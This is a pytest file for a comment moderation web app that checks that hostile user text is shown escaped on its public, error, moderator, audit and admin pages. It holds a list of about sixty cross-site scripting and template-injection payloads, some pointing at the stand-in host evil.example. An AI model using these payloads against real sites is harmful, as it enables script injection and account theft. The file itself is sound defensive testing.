"""Hostile text, stored by the real routes, on every page that shows it.

The markup of a page must be the same whatever people wrote: every element and attribute is one
that harmless text gives too, and the hostile text stands there whole, as text.
"""

from __future__ import annotations

import html
from urllib.parse import quote

import pytest
from sqlalchemy import select

from moderation import create_app
from moderation.accounts.tables import User
from moderation.comments.tables import Comment, Status
from moderation.db import db
from moderation.scoring.labels import LABELS
from moderation.text.storable import storable
from tests.conftest import settings_for_tests
from tests.page import read

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<b style='position:fixed;inset:0'>over everything</b>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='jav\tascript:alert(1)'>click</a>",
    "<a href=' &#14; javascript:alert(1)'>click</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onpointerenter=alert(1) y",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</svg></table></div></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='x'?>",
    "<!doctype html><html><body onload=alert(1)>",
    "{{7*7}} {{config}} {{''.__class__.__mro__}}",
    "{% for x in (1,) %}{{x}}{% endfor %}{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &notanentity; &amp",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>\u202calert(1)</script>",
    "\u2066\u202d</bdi><img src=x onerror=alert(1)>\u2069",
    "\u2028<script>alert(1)</script>\u2029",
    "\x0b<img\x0csrc=x\x0bonerror=alert(1)>\x1b[2J",
    "<x" + "y" * 60 + " onclick=alert(1)>",
    "]]></mark></span></div><script>alert(1)</script>",
]
HARMLESS = "A harmless word, for comparison"
HELD = " idiot"  # holds whatever text it ends
# Links to further pages, which a handful of harmless rows does not bring out.
PAGER = {("nav", name) for name in ("", "class", "aria-label")}
PAGER |= {("a", name) for name in ("class", "rel")}
PAGER |= {(tag, name) for tag in ("svg", "path") for name in ("", "class", "viewBox", "d")}
ALLOWED_STARTS = ("/", "#", "?", "http://localhost/")


def markup(page):
    """Each kind of element with each kind of attribute that it has."""
    return {(e.tag, name) for e in page.elements for name in ("", *e.attributes)}


def assert_only_ours(page, allowed, where):
    """No element and no attribute but those of the templates, and no address but our own."""
    extra = markup(page) - allowed - PAGER
    assert not extra, (where, extra)
    for element in page.elements:
        for name in ("href", "src", "action", "formaction"):
            value = element.attributes.get(name, "/")
            assert value.startswith(ALLOWED_STARTS), (where, value)
            assert not value.startswith("//"), (where, value)
        if element.tag == "script":
            assert element.attributes.get("src", "").startswith("/static/")
            assert not element.text


def assert_whole(page, text, where):
    """The text stands in the page as it was written: in an element, or in an attribute."""
    squeezed = " ".join(text.split())
    assert any(
        squeezed == " ".join(shown.split())
        for e in page.elements
        for shown in (e.text, *e.attributes.values())
    ), (where, text)


@pytest.fixture
def desk(signed_in, moderator):
    return signed_in(moderator)


@pytest.fixture
def office(signed_in, admin):
    return signed_in(admin)


def plant(client, text, page="held", name="Tess", email=""):
    """Send a comment by the form and return it as it is stored."""
    answer = client.post(f"/p/{page}", data={"name": name, "email": email, "text": text})
    assert answer.status_code == 303, text
    return db.session.scalars(select(Comment).order_by(Comment.id.desc()).limit(1)).one()


def name_of(payload):
    """The payload as a name: short enough, on one line."""
    return payload[:75]


def test_the_corpus_is_large_and_each_is_another():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_the_page_and_the_private_page(client):
    first = plant(client, HARMLESS, "shown")
    allowed = markup(read(client.get("/p/shown")))
    allowed_status = markup(read(client.get(f"/c/{first.status_token}")))
    for payload in PAYLOADS:
        sent = plant(client, payload, "shown", name_of(payload))
        assert sent.status == Status.PUBLISHED, payload
        page = read(client.get(f"/c/{sent.status_token}"))
        assert_only_ours(page, allowed_status, payload)
        assert_whole(page, sent.text, payload)
        assert_whole(page, sent.author_name, payload)

    address, shown = "/p/shown", []
    while address:
        page = read(client.get(address))
        assert_only_ours(page, allowed, address)
        shown += [e.text for e in page.all("div", cls="user-text")]
        onward = page.all("a", rel="next")
        address = onward[0].attributes["href"] if onward else None
    assert shown[1:] == [storable(payload) for payload in PAYLOADS]


def test_the_forms_that_come_back(client):
    wrong = {"name": "", "email": HARMLESS, "text": HARMLESS}
    allowed = markup(read(client.post("/p/shown", data=wrong)))
    tried = {**markup_of_trial(client)}
    for payload in PAYLOADS:
        # The key itself is made to hold every payload: whatever is echoed is echoed safely.
        fields = {"name": "", "email": payload, "text": payload, "submission_key": payload}
        answer = client.post("/p/shown", data=fields)
        assert answer.status_code == 422
        page = read(answer)
        assert_only_ours(page, allowed, payload)
        assert page.fields()["text"] == storable(payload), payload
        assert page.fields()["email"] == storable(payload).strip(), payload

        answer = client.post("/try", data={"text": payload, "example": payload})
        page = read(answer)
        assert_only_ours(page, tried[answer.status_code], payload)
        assert page.fields()["text"] == storable(payload), payload


def markup_of_trial(client):
    """What the trial page holds, with any answer."""
    answers = [client.post("/try", data={"text": t}) for t in (HARMLESS, "idiot", "xyzzy")]
    return {200: set().union(*(markup(read(answer)) for answer in answers))}


def test_addresses_and_errors(client):
    allowed = markup(read(client.get("/nowhere"))) | markup(read(client.get("/?after=x")))
    for payload in PAYLOADS:
        part = quote(payload, safe="")
        for address in (f"/p/{part}", f"/c/{part}", f"/{part}", f"/?after={part}&{part}={part}"):
            answer = client.get(address)
            assert answer.status_code in (400, 404)
            page = read(answer)
            assert_only_ours(page, allowed, address)
            assert html.escape(payload) not in answer.text, "errors echo nothing"
        answer = client.get("/login", query_string={"next": payload})
        read(answer)
        assert answer.status_code == 200


def test_the_desk(client, desk, office):
    """List, case, author's history, note, undo, search words, and the audit trail."""

    def decide(comment, note):
        return desk.post(
            f"/review/{comment.id}/decide",
            data={"to": "rejected", "seen": "held", "note": note},
            follow_redirects=True,
        )

    def look(comment):
        """All that a moderator may open about a comment, before and after a decision."""
        words = comment.text[:150]
        pages = {
            "case": desk.get(f"/review/{comment.id}"),
            "found": desk.get("/review", query_string={"state": "all", "text": words}),
            "of author": desk.get("/review", query_string={"author": comment.author_name}),
            "of page": desk.get("/review", query_string={"page": words[:90]}),
            "wrong filter": desk.get("/review", query_string={"least": words, "order": words}),
            "trail": desk.get("/audit"),
            "of comment": desk.get("/audit", query_string={"subject": comment.id}),
            "wrong trail": desk.get("/audit", query_string={"by": words, "action": words}),
            "decided": decide(comment, words),
            "case after": desk.get(f"/review/{comment.id}"),
            "trail with note": desk.get("/audit"),
            "office": office.get("/admin"),
        }
        for name, answer in pages.items():
            assert answer.status_code == (400 if name.startswith("wrong") else 200), name
        return {name: read(answer) for name, answer in pages.items()}

    allowed = set()
    for n in range(3):
        planted = plant(client, f"{HARMLESS} {n}{HELD}", name="Tess", email="tess@example.org")
        plant(client, f"{HARMLESS} {n} again{HELD}", name="Tess", email="tess@example.org")
        for page in look(planted).values():
            allowed |= markup(page)

    for payload in PAYLOADS:
        plant(client, payload + " again" + HELD, name=name_of(payload))
        comment = plant(client, payload + HELD, name=name_of(payload))
        assert comment.status == Status.HELD
        text, name = comment.text, comment.author_name
        pages = look(comment)
        for where, page in pages.items():
            assert_only_ours(page, allowed, (where, payload))
        assert_whole(pages["case"], text, payload)
        assert_whole(pages["case"], name, payload)
        assert_whole(pages["case after"], text, payload)


def test_names_and_addresses_of_people(app, office):
    """Invited by the form; the name stands on the people's pages, the desk and in the trail."""
    allowed = set()

    def look(user):
        return [office.get("/admin/people"), office.get(f"/admin/people/{user.id}"),
                office.get("/audit")]  # fmt: skip

    def invite(name, email):
        fields = {"name": name, "email": email, "role": "viewer"}
        return office.post("/admin/people", data=fields, follow_redirects=True)

    invited = invite("Vera", "vera@example.org")
    allowed |= markup(read(invited))
    allowed |= markup(read(invite("", "no address")))
    someone = db.session.scalars(select(User).order_by(User.id.desc()).limit(1)).one()
    for answer in look(someone):
        allowed |= markup(read(answer))

    for number, payload in enumerate(PAYLOADS):
        name = name_of(payload)
        assert_only_ours(read(invite("", payload)), allowed, payload)
        answer = invite(name, f"p{number}@example.org")
        page = read(answer)
        assert_only_ours(page, allowed, payload)
        db.session.rollback()
        user = db.session.scalar(select(User).where(User.email == f"p{number}@example.org"))
        assert user is not None, payload
        name, user_id = user.display_name, user.id
        for answer in look(user):
            page = read(answer)
            assert_only_ours(page, allowed, payload)
        assert_whole(read(office.get(f"/admin/people/{user_id}")), name, payload)


def test_ones_own_name_and_a_policy_note(app, office):
    def rename(name):
        return office.post("/account/name", data={"name": name}, follow_redirects=True)

    def note(text):
        values = {f"{label}_review": "0.6" for label in LABELS}  # or nothing would be saved
        return office.post("/admin/policy", data={"base": "1", "note": text, **values})

    shown = ["/account", "/review", "/audit", "/admin", "/admin/policy", "/admin/policy/1"]
    rename("Ada L.")
    allowed = markup(read(rename(""))) | markup(read(note(HARMLESS)))
    for address in shown:
        allowed |= markup(read(office.get(address)))
    for payload in PAYLOADS:
        page = read(rename(name_of(payload)))
        assert_only_ours(page, allowed, payload)
        for address in shown:
            assert_only_ours(read(office.get(address)), allowed, (address, payload))
        page = read(note(payload))
        assert_only_ours(page, allowed, payload)
        assert_whole(page, storable(payload).strip(), payload)


def test_the_name_of_the_site(tmp_path, scorer):
    harmless = create_app(settings_for_tests(tmp_path / "gone", site_name="Ours"), scorer)
    allowed = markup(read(harmless.test_client().get("/nowhere")))
    for payload in PAYLOADS:
        site = create_app(settings_for_tests(tmp_path / "gone", site_name=payload), scorer)
        assert_only_ours(read(site.test_client().get("/nowhere")), allowed, payload)


def test_the_reader_of_these_tests_would_see_an_intruder(client):
    """The check itself can fail: raw payloads in a page are caught, nearly all by their markup."""
    plant(client, HARMLESS, "shown")
    answer = client.get("/p/shown")
    allowed = markup(read(answer))
    caught = 0
    for payload in PAYLOADS:
        answer.set_data(client.get("/p/shown").text.replace(HARMLESS, payload))
        try:
            page = read(answer)
            assert_only_ours(page, allowed, payload)
            assert payload in [e.text for e in page.all("div", cls="user-text")]
        except AssertionError:
            caught += 1
    assert caught > 45
